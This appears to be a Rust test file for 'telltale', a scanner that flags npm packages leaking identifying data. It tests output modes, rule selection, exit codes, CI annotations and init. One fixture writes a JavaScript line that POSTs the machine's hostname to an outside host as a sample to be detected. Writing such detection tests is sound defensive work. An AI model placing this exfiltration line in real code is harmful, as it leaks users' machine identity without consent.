//! Output modes for terminals and CI logs: `--quiet`, `--statistics`, `--format github`,
//! `--select`/`--ignore`, `--exit-zero`, and targets that cannot be read said once.

mod common;

use common::{telltale, write};
use std::process::Output;

fn text(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A package that sends the host name (high), and one that only reads it (info).
fn two_packages() -> (tempfile::TempDir, String, String) {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "sends/index.js",
        b"const os = require('os');\nfetch('https://c6.x.top/p', { method: 'POST', body: os.hostname() });\n",
    );
    write(
        dir.path(),
        "reads/index.js",
        b"const os = require('os');\nconsole.log(os.hostname());\n",
    );
    let p = |n: &str| dir.path().join(n).to_string_lossy().into_owned();
    let (sends, reads) = (p("sends"), p("reads"));
    (dir, sends, reads)
}

#[test]
fn quiet_shows_only_what_needs_attention_one_line_per_finding() {
    let (_dir, sends, reads) = two_packages();
    let out = telltale()
        .args(["scan", "-q", &sends, &reads])
        .output()
        .unwrap();
    let (stdout, _) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains(&format!("{sends}: ")), "{stdout}");
    assert!(!stdout.contains(&format!("{reads}:")), "{stdout}");
    assert!(
        stdout
            .lines()
            .any(|l| l.trim_start().starts_with("index.js:2:") && l.contains("high TT102")),
        "{stdout}"
    );
    assert!(!stdout.contains("summary:") && !stdout.contains("privacy label"));
    assert!(
        stdout.trim_end().ends_with("fail the policy"),
        "totals last: {stdout}"
    );
}

#[test]
fn statistics_count_findings_by_rule() {
    let (_dir, sends, reads) = two_packages();
    let out = telltale()
        .args(["scan", "--statistics", &sends, &reads])
        .output()
        .unwrap();
    let (stdout, _) = text(&out);
    let row = |rule: &str| {
        stdout
            .lines()
            .find(|l| l.contains(rule))
            .unwrap_or_else(|| panic!("{rule}: {stdout}"))
            .split_whitespace()
            .next()
            .unwrap()
            .to_string()
    };
    assert_eq!(row("TT101"), "2", "{stdout}");
    assert_eq!(row("TT102"), "1", "{stdout}");
    assert!(!stdout.contains("-->"), "no findings listed: {stdout}");
}

#[test]
fn github_annotations_land_on_the_line_with_escaped_text() {
    let (_dir, sends, _) = two_packages();
    let out = telltale()
        .args([
            "scan",
            "--format",
            "github",
            "--min-severity",
            "low",
            &sends,
        ])
        .output()
        .unwrap();
    let (stdout, _) = text(&out);
    let line = stdout
        .lines()
        .find(|l| l.contains("TT102"))
        .unwrap_or_else(|| panic!("{stdout}"));
    assert!(
        line.starts_with(&format!("::error file={sends}/index.js,line=2,col=")),
        "{line}"
    );
    assert!(
        line.contains("title=TT102 identity-exfiltration (high)::"),
        "{line}"
    );
    assert!(line.contains("%0Afails the policy"), "{line}");
    assert!(
        !stdout.contains("TT101"),
        "info is below --min-severity: {stdout}"
    );
    assert!(stdout.lines().all(|l| l.starts_with("::")), "{stdout}");
    // A registry or archive target has no file in the checkout: an annotation of the run.
    let unread = telltale()
        .args(["scan", "--format", "github", "/no/such/dir"])
        .output()
        .unwrap();
    let (stdout, _) = text(&unread);
    assert!(
        stdout.starts_with("::error title=telltale%3A target not read::/no/such/dir"),
        "{stdout}"
    );
}

#[test]
fn select_and_ignore_choose_findings_before_the_policy() {
    let (_dir, sends, _) = two_packages();
    let run = |args: &[&str]| {
        let out = telltale()
            .args(["scan", "--format", "json"])
            .args(args)
            .arg(&sends)
            .output()
            .unwrap();
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let rules: Vec<String> = doc["targets"][0]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["rule"].as_str().unwrap().to_string())
            .collect();
        (out.status.code(), rules)
    };
    let (code, rules) = run(&["--select", "identity"]);
    assert_eq!(rules, ["TT101"], "the category's rules only");
    assert_eq!(code, Some(0), "nothing selected fails");
    let (code, rules) = run(&["--ignore", "TT102,identity-sent-without-opt-out"]);
    assert!(
        !rules.iter().any(|r| r == "TT102" || r == "TT701"),
        "{rules:?}"
    );
    assert_eq!(code, Some(0));
    let (code, rules) = run(&["--select", "TT1"]);
    assert!(
        rules.iter().all(|r| r.starts_with("TT1")) && rules.len() == 2,
        "{rules:?}"
    );
    assert_eq!(code, Some(1));
    let out = telltale()
        .args(["scan", "--select", "identity-exfiltraton", &sends])
        .output()
        .unwrap();
    let (_, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr.contains("`identity-exfiltraton` names no rule"),
        "{stderr}"
    );
}

#[test]
fn exit_zero_passes_policy_failures_but_not_unreadable_targets() {
    let (_dir, sends, _) = two_packages();
    let out = telltale()
        .args(["scan", "--exit-zero", "-q", &sends])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let out = telltale()
        .args(["scan", "--exit-zero", "/no/such/dir"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

/// A target that cannot be read: one line saying why, no clean label under it, counted in
/// the totals; on standard error once (left out only where the text report is on the
/// terminal, which a test cannot be).
#[test]
fn errors_are_said_once_with_what_to_do() {
    let out = telltale()
        .args(["scan", "cargo:serde", "/no/such/dir"])
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stdout.contains("cargo:serde: error: unknown target kind `cargo:`")
            && stdout.contains("npm:NAME[@VERSION]"),
        "{stdout}"
    );
    assert!(!stdout.contains("privacy label"), "{stdout}");
    assert!(!stdout.contains("0 files"), "{stdout}");
    assert!(stdout.contains("2 could not be read"), "{stdout}");
    assert_eq!(stdout.matches("unknown target kind").count(), 1, "{stdout}");
    // Not a terminal: standard error carries it too, once, for logs that keep only it.
    assert_eq!(stderr.matches("unknown target kind").count(), 1, "{stderr}");
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("r.json");
    let out = telltale()
        .args(["scan", "--format", "json", "-o"])
        .arg(&report)
        .arg("/no/such/dir")
        .output()
        .unwrap();
    let (_, stderr) = text(&out);
    assert_eq!(
        stderr
            .lines()
            .filter(|l| l.contains("/no/such/dir"))
            .count(),
        1,
        "{stderr}"
    );
    let missing = dir.path().join("missing/r.json");
    let out = telltale()
        .args(["scan", "-o"])
        .arg(&missing)
        .arg(dir.path())
        .output()
        .unwrap();
    let (_, stderr) = text(&out);
    assert!(
        stderr.contains(&format!("cannot write the report to {}", missing.display())),
        "{stderr}"
    );
}

/// Several targets print concisely by default (those that need attention, a count of the
/// others); `--full` prints each in full.
#[test]
fn several_targets_are_concise_unless_full() {
    let (_dir, sends, reads) = two_packages();
    let out = telltale().args(["scan", &sends, &reads]).output().unwrap();
    let (stdout, _) = text(&out);
    assert!(stdout.contains(&format!("{sends}: ")), "{stdout}");
    assert!(
        stdout.contains("1 other target needs no attention (--full shows every target)"),
        "{stdout}"
    );
    assert!(!stdout.contains("privacy label"), "{stdout}");
    let out = telltale()
        .args(["scan", "--full", &sends, &reads])
        .output()
        .unwrap();
    let (stdout, _) = text(&out);
    assert_eq!(stdout.matches("privacy label").count(), 2, "{stdout}");
    assert!(stdout.contains("summary:"), "{stdout}");
    // One target is always in full.
    let out = telltale().args(["scan", &sends]).output().unwrap();
    assert!(text(&out).0.contains("privacy label"));
}

#[test]
fn colour_is_asked_for_or_left_out() {
    let (_dir, sends, _) = two_packages();
    let run = |args: &[&str], no_color: bool| {
        let mut c = telltale();
        c.args(["scan", "-q"]).args(args).arg(&sends);
        if no_color {
            c.env("NO_COLOR", "1");
        } else {
            c.env_remove("NO_COLOR");
        }
        text(&c.output().unwrap()).0
    };
    let always = run(&["--color", "always"], true);
    assert!(always.contains("\x1b[31mhigh\x1b[0m TT102"), "{always:?}");
    assert!(!run(&["--color", "never"], false).contains('\x1b'));
    // Not a terminal: auto leaves colour out.
    assert!(!run(&[], false).contains('\x1b'));
}

/// `init` writes a starter policy that the policy loader accepts, and never overwrites one
/// unless told.
#[test]
fn init_writes_a_policy_scan_accepts() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("telltale.toml");
    let out = telltale().arg("init").arg(&policy).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out).1);
    let (_keep, sends, _) = two_packages();
    let out = telltale()
        .args(["scan", "-q", "--config"])
        .arg(&policy)
        .arg(&sends)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "fails on high: {}",
        text(&out).1
    );
    let again = telltale().arg("init").arg(&policy).output().unwrap();
    assert_eq!(again.status.code(), Some(2));
    assert!(text(&again).1.contains("--force"));
    let forced = telltale()
        .args(["init", "--force"])
        .arg(&policy)
        .output()
        .unwrap();
    assert_eq!(forced.status.code(), Some(0));
}

#[test]
fn completions_man_page_rules_and_explain_fit_their_readers() {
    let bash = telltale().args(["completions", "bash"]).output().unwrap();
    let bash = text(&bash).0;
    assert!(
        bash.contains("--select") && bash.contains("telltale"),
        "{bash}"
    );
    let man = text(&telltale().arg("man").output().unwrap()).0;
    assert!(
        man.starts_with(".ie") || man.contains(".TH telltale"),
        "{man}"
    );
    let rules = text(&telltale().arg("rules").output().unwrap()).0;
    assert!(rules.lines().all(|l| l.chars().count() <= 120), "{rules}");
    assert!(rules.contains("TT102  identity-exfiltration"), "{rules}");
    let explain = text(&telltale().args(["explain", "TT102"]).output().unwrap()).0;
    assert!(explain.contains("## Accepting a finding"), "{explain}");
    assert!(explain.contains("--ignore TT102"), "{explain}");
}

/// Output piped into a reader that stops early (`telltale rules | head -1`) ends quietly.
#[test]
fn a_closed_pipe_is_not_a_crash() {
    use std::process::Stdio;
    let mut child = telltale()
        .arg("rules")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
}

/// A scan of many packages in a CI log (no terminal) says how far it got, now and then.
#[test]
fn progress_lines_in_a_log() {
    let dir = tempfile::tempdir().unwrap();
    for n in ["a", "b", "c"] {
        write(
            dir.path(),
            &format!("node_modules/{n}/package.json"),
            format!("{{\"name\": \"{n}\", \"version\": \"1.0.0\"}}").as_bytes(),
        );
        write(
            dir.path(),
            &format!("node_modules/{n}/index.js"),
            b"module.exports = 1;\n",
        );
    }
    let out = telltale()
        .args(["scan", "-q"])
        .arg(dir.path().join("node_modules"))
        .env("TELLTALE_PROGRESS_SECS", "0")
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert!(stderr.contains("packages scanned"), "{stderr}");
    assert!(stderr.contains("/3 packages scanned"), "{stderr}");
    assert!(stdout.contains("3 target(s)"), "{stdout}");
}

/// The CI examples (the GitHub workflow, the pre-commit hook) use flags the command line has.
#[test]
fn the_ci_examples_use_real_flags() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let help = text(&telltale().args(["scan", "--help"]).output().unwrap()).0;
    for example in ["docs/ci/github-workflow.yml", ".pre-commit-hooks.yaml"] {
        let body = std::fs::read_to_string(root.join(example)).unwrap();
        let commands: Vec<&str> = body
            .lines()
            .filter_map(|l| l.split_once("telltale scan").map(|(_, rest)| rest))
            .collect();
        assert!(!commands.is_empty(), "{example}");
        for flag in commands
            .iter()
            .flat_map(|c| c.split_whitespace())
            .filter(|w| w.starts_with('-'))
        {
            let long = flag.trim_start_matches('-');
            assert!(
                help.contains(&format!("--{long}")) || help.contains(&format!("-{long},")),
                "{example}: `{flag}` is not a scan flag"
            );
        }
    }
}
